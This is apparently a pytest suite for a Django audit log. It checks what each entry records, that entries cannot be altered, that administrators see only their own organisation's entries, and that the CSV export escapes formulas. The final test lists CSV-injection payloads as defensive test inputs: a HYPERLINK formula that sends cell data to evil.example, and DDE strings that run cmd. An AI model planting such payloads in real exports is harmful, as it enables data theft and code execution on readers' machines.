"""The audit log: every change says who, what, when and from where; nobody can alter it; administrators
search and export only their own organisation's entries, and the export cannot smuggle in a formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from html.parser import HTMLParser

import pytest
import time_machine
from django.db import DatabaseError, connection, transaction
from django.db.models import ProtectedError

from heard.core.audit import audit_record
from heard.core.models import AuditEntry
from heard.projects.services import project_create

pytestmark = pytest.mark.django_db

BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Edge/126.0 NHS-desktop"


class _TableRows(HTMLParser):
    """The text of each cell in a page's table body, row by row."""

    def __init__(self) -> None:
        super().__init__()
        self.rows: list[list[str]] = []
        self._in_body = False
        self._cell: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "tbody":
            self._in_body = True
        elif self._in_body and tag == "tr":
            self.rows.append([])
        elif self._in_body and tag == "td":
            self._cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag == "tbody":
            self._in_body = False
        elif tag == "td" and self._cell is not None:
            self.rows[-1].append(" ".join("".join(self._cell).split()))
            self._cell = None

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)


def table_rows(response) -> list[list[str]]:
    parser = _TableRows()
    parser.feed(response.content.decode())
    return parser.rows


def audit_page_actions(response) -> list[tuple[str, str]]:
    """(who, action) for each entry listed on the audit page."""
    return [(row[1], row[2]) for row in table_rows(response) if len(row) == 6]


def export_rows(response) -> list[dict[str, str]]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


# --- what an entry records ----------------------------------------------------------------------------------


def test_creating_a_project_through_the_page_records_who_what_and_from_where(alice, leeds, signed_in):
    client = signed_in(alice)

    response = client.post(
        "/projects/new/",
        {"title": "Stroke rehabilitation at home", "stage": "design"},
        REMOTE_ADDR="203.0.113.7",
        HTTP_USER_AGENT=BROWSER,
    )

    assert response.status_code == 302
    entry = AuditEntry.objects.get(action="project.created")
    assert entry.actor == alice
    assert entry.actor_label == "alice"
    assert entry.organisation == leeds
    assert entry.target_label == "Stroke rehabilitation at home"
    assert entry.target_type == "projects.project"
    assert entry.ip_address == "203.0.113.7"
    assert entry.user_agent == BROWSER
    assert entry.channel == "web"
    assert entry.detail == {"stage": "design"}


def test_a_forwarded_address_is_believed_only_behind_a_trusted_proxy(alice, signed_in, settings):
    client = signed_in(alice)

    client.post(
        "/projects/new/",
        {"title": "Spoofed", "stage": "design"},
        REMOTE_ADDR="203.0.113.7",
        HTTP_X_FORWARDED_FOR="198.51.100.99",
    )
    settings.SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https")
    # The client sent a made-up header; our one proxy appended the address it really saw.
    client.post(
        "/projects/new/",
        {"title": "Proxied", "stage": "design"},
        REMOTE_ADDR="10.0.0.2",
        HTTP_X_FORWARDED_FOR="198.51.100.99, 198.51.100.20",
    )
    settings.HEARD_TRUSTED_PROXIES = 2  # a load balancer in front of the proxy appends one more
    client.post(
        "/projects/new/",
        {"title": "Two proxies", "stage": "design"},
        REMOTE_ADDR="10.0.0.3",
        HTTP_X_FORWARDED_FOR="198.51.100.99, 198.51.100.21, 10.0.0.9",
    )

    addresses = dict(
        AuditEntry.objects.filter(action="project.created").values_list("target_label", "ip_address")
    )
    assert addresses == {"Spoofed": "203.0.113.7", "Proxied": "198.51.100.20", "Two proxies": "198.51.100.21"}


def test_work_done_outside_a_web_request_is_recorded_as_the_command_line(alice, leeds):
    project_create(actor=alice, organisation=leeds, title="Loaded by an operator")

    entry = AuditEntry.objects.get(action="project.created")
    assert entry.channel == "command line"
    assert entry.ip_address is None


def test_a_system_action_is_recorded_without_an_actor(leeds):
    entry = audit_record(actor=None, action="organisation.checked", organisation=leeds)

    assert entry.actor is None
    assert entry.actor_label == "system"


def test_a_view_of_identifiable_data_without_a_reason_is_refused(alice, leeds):
    with pytest.raises(ValueError, match="must record why"):
        audit_record(
            actor=alice, action="respondent.viewed", organisation=leeds, identifiable=True, reason="  "
        )

    assert not AuditEntry.objects.exists()


def test_a_view_of_identifiable_data_with_a_reason_is_recorded_with_it(alice, leeds):
    audit_record(
        actor=alice,
        action="respondent.viewed",
        organisation=leeds,
        identifiable=True,
        reason="Complaint PALS-114",
    )

    entry = AuditEntry.objects.get()
    assert entry.identifiable
    assert entry.reason == "Complaint PALS-114"


# --- nobody can change it -----------------------------------------------------------------------------------


@pytest.fixture
def entry(alice, leeds) -> AuditEntry:
    return audit_record(actor=alice, action="project.created", organisation=leeds, detail={"stage": "design"})


def _unchanged(entry: AuditEntry) -> None:
    stored = AuditEntry.objects.get(pk=entry.pk)
    assert stored.action == "project.created"
    assert stored.actor_label == "alice"


def test_an_entry_cannot_be_changed_through_the_model(entry):
    entry.action = "project.never_happened"

    with pytest.raises(PermissionError, match="cannot be changed"):
        entry.save()

    _unchanged(entry)


def test_an_entry_cannot_be_deleted_through_the_model(entry):
    with pytest.raises(PermissionError, match="cannot be changed"):
        entry.delete()

    _unchanged(entry)


@pytest.mark.parametrize(
    "tamper",
    [
        lambda entry: AuditEntry.objects.filter(pk=entry.pk).update(actor_label="mallory"),
        lambda entry: AuditEntry.objects.update(actor_label="mallory"),
        lambda entry: AuditEntry.objects.filter(pk=entry.pk).delete(),
        lambda entry: AuditEntry.objects.all().delete(),
        lambda entry: AuditEntry.objects.bulk_update([entry], ["actor_label"]),
        lambda entry: AuditEntry.objects.update_or_create(pk=entry.pk, defaults={"actor_label": "mallory"}),
    ],
    ids=["filter-update", "update-all", "filter-delete", "delete-all", "bulk-update", "update-or-create"],
)
def test_an_entry_cannot_be_changed_or_deleted_through_the_queryset(entry, tamper):
    with pytest.raises(PermissionError, match="cannot be changed"), transaction.atomic():
        tamper(entry)

    _unchanged(entry)


def test_the_database_refuses_a_raw_sql_update(entry):
    with pytest.raises(DatabaseError, match="cannot be changed"), transaction.atomic():
        with connection.cursor() as cursor:
            cursor.execute("UPDATE core_auditentry SET actor_label = %s WHERE id = %s", ["mallory", entry.pk])

    _unchanged(entry)


def test_the_database_refuses_a_raw_sql_delete_on_postgresql(entry):
    if connection.vendor != "postgresql":
        pytest.skip("SQLite keeps DELETE for Django's test tooling (migration 0002); PostgreSQL refuses it")

    with pytest.raises(DatabaseError, match="cannot be changed"), transaction.atomic():
        with connection.cursor() as cursor:
            cursor.execute("DELETE FROM core_auditentry WHERE id = %s", [entry.pk])

    _unchanged(entry)


def test_a_person_with_entries_in_the_log_cannot_be_deleted(entry, alice):
    with pytest.raises(ProtectedError), transaction.atomic():
        alice.delete()

    _unchanged(entry)


# --- the administrator's page -------------------------------------------------------------------------------


@pytest.fixture
def history(alice, bob, carol, leeds, wakefield):
    """A week in two organisations: Leeds's entries on three days, and Wakefield's alongside."""
    with time_machine.travel(datetime(2026, 3, 2, 10, 0, tzinfo=UTC), tick=False):
        project_create(actor=alice, organisation=leeds, title="Urgent care in Leeds North")
        audit_record(actor=bob, action="signin.succeeded")  # a person's event: no organisation
    with time_machine.travel(datetime(2026, 3, 4, 15, 30, tzinfo=UTC), tick=False):
        audit_record(actor=bob, action="report.downloaded", organisation=leeds)
        project_create(actor=carol, organisation=wakefield, title="Wakefield maternity voices")
        audit_record(actor=carol, action="signin.succeeded")
    with time_machine.travel(datetime(2026, 3, 9, 9, 0, tzinfo=UTC), tick=False):
        audit_record(
            actor=alice,
            action="respondent.viewed",
            organisation=leeds,
            identifiable=True,
            reason="Complaint 114",
        )


def test_the_audit_page_lists_the_organisations_entries_newest_first(alice, history, signed_in):
    response = signed_in(alice).get("/audit/")

    assert response.status_code == 200
    assert audit_page_actions(response) == [
        ("alice", "respondent.viewed Identifiable"),
        ("bob", "report.downloaded"),
        ("bob", "signin.succeeded"),
        ("alice", "project.created"),
    ]
    assert "Complaint 114" in response.content.decode()


def test_the_audit_page_never_shows_another_organisations_entries(alice, history, signed_in):
    page = signed_in(alice).get("/audit/").content.decode()

    assert "Wakefield maternity voices" not in page
    assert "carol" not in page


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"action": "project"}, [("alice", "project.created")]),
        ({"actor": "BOB"}, [("bob", "report.downloaded"), ("bob", "signin.succeeded")]),
        ({"date_from": "2026-03-03", "date_to": "2026-03-05"}, [("bob", "report.downloaded")]),
        (
            {"date_from": "2026-03-04"},
            [("alice", "respondent.viewed Identifiable"), ("bob", "report.downloaded")],
        ),
        ({"date_to": "2026-03-02"}, [("bob", "signin.succeeded"), ("alice", "project.created")]),
        ({"identifiable": "on"}, [("alice", "respondent.viewed Identifiable")]),
        ({"q": "urgent care"}, [("alice", "project.created")]),
        ({"actor": "carol"}, []),
    ],
    ids=[
        "action",
        "username",
        "date-range",
        "from-date",
        "to-date",
        "identifiable",
        "search",
        "other-org-person",
    ],
)
def test_the_audit_page_filters(alice, history, signed_in, query, expected):
    response = signed_in(alice).get("/audit/", query)

    assert response.status_code == 200
    assert audit_page_actions(response) == expected


def test_an_end_date_before_the_start_date_is_a_400_that_says_so(alice, history, signed_in):
    response = signed_in(alice).get("/audit/", {"date_from": "2026-03-09", "date_to": "2026-03-01"})

    assert response.status_code == 400
    page = response.content.decode()
    assert "There is a problem" in page
    assert "The end date must be the same as or after the start date" in page
    assert audit_page_actions(response) == []


def test_a_date_that_is_not_a_date_is_a_400_that_says_how_to_write_one(alice, signed_in):
    response = signed_in(alice).get("/audit/", {"date_from": "next tuesday"})

    assert response.status_code == 400
    assert "Enter a date like 2026-03-31" in response.content.decode()


def test_someone_who_is_not_an_administrator_cannot_read_or_export_the_log(bob, history, signed_in):
    client = signed_in(bob)

    assert client.get("/audit/").status_code == 403
    assert client.get("/audit/export.csv").status_code == 403
    assert not AuditEntry.objects.filter(action="audit_log.exported").exists()


# --- the CSV export -----------------------------------------------------------------------------------------


def test_the_export_holds_the_matching_entries_and_is_itself_audited(alice, leeds, history, signed_in):
    response = signed_in(alice).get("/audit/export.csv", {"actor": "bob"}, REMOTE_ADDR="192.0.2.44")

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="heard-audit-leeds-north-')
    rows = export_rows(response)
    assert [(row["who"], row["action"]) for row in rows] == [
        ("bob", "report.downloaded"),
        ("bob", "signin.succeeded"),
    ]
    assert rows[0]["when"] == "2026-03-04T15:30:00+00:00"
    export = AuditEntry.objects.get(action="audit_log.exported")
    assert export.actor == alice
    assert export.organisation == leeds
    assert export.ip_address == "192.0.2.44"
    assert export.detail == {"rows": 2, "filters": {"actor": "bob"}}


def test_the_export_shows_why_identifiable_data_was_viewed(alice, history, signed_in):
    rows = export_rows(signed_in(alice).get("/audit/export.csv", {"identifiable": "on"}))

    assert [(row["action"], row["identifiable"], row["why"]) for row in rows] == [
        ("respondent.viewed", "yes", "Complaint 114")
    ]


def test_the_export_never_includes_another_organisations_entries(alice, history, signed_in):
    response = signed_in(alice).get("/audit/export.csv")

    text = response.content.decode()
    assert "Wakefield maternity voices" not in text
    assert "carol" not in text
    assert len(export_rows(response)) == 4


def test_an_export_with_an_end_date_before_the_start_is_refused_and_not_audited(alice, history, signed_in):
    response = signed_in(alice).get("/audit/export.csv", {"date_from": "2026-03-09", "date_to": "2026-03-01"})

    assert response.status_code == 400
    assert "The end date must be the same as or after the start date" in response.content.decode()
    assert not AuditEntry.objects.filter(action="audit_log.exported").exists()


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.example/steal?d="&A1,"Open")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
    ],
)
def test_a_project_title_cannot_run_as_a_formula_in_the_export(alice, leeds, signed_in, title):
    project_create(actor=alice, organisation=leeds, title=title)

    rows = export_rows(signed_in(alice).get("/audit/export.csv", {"action": "project.created"}))

    assert [row["target"] for row in rows] == ["'" + title]
